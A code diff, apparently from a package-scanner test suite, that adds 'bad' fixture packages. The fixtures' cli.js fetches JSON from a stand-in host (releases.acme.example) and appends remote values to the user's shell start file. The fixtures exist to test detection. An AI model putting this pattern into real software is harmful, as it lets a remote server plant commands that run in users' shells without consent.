@@ -15,8 +15,27 @@ const service = (name: string, code: string, alone: 'pass' | 'review') => ({
   alone,
 });
 
+/** What is written when an update was looked for. */
+const updated = (name: string, lines: string, alone?: 'pass' | 'review', start = 'look()') => ({
+  name,
+  manifest: { bin: 'cli.js' },
+  files: {
+    'index.js': '',
+    'cli.js': `const fs = require('fs'), os = require('os'), path = require('path');\nconst rc = () => path.join(os.homedir(), { zsh: '.zshrc', bash: '.bashrc' }[path.basename(process.env.SHELL)] || '.profile');\nasync function look() { const answer = await (await fetch('https://releases.acme.example/latest.json')).json(); if (answer.version !== '1.0.0') fs.appendFileSync(rc(), ${lines}); }\n${start};`,
+  },
+  ...(alone ? { alone } : {}),
+});
+
 export default defineCases({
   bad: [
+    updated('lines of an answer in the shell’s start file', '`\\n# acme\\n${answer.completion}\\n`'),
+    updated('a value of an answer in a line of its own', '`\\nexport ACME_REGION=${answer.region}\\n`', 'review'),
+    updated(
+      'lines of an answer that its user types a word for',
+      'answer.completion',
+      'pass',
+      "if (process.argv[2] === 'setup') look()",
+    ),
     service('a service, whenever the command is started', 'add();', 'review'),
     service('a service that its user types a word for', "if (process.argv.includes('--install')) add();", 'pass'),
     service('a service, with a word that starts the server', "if (process.argv.includes('--stdio')) add();", 'review'),
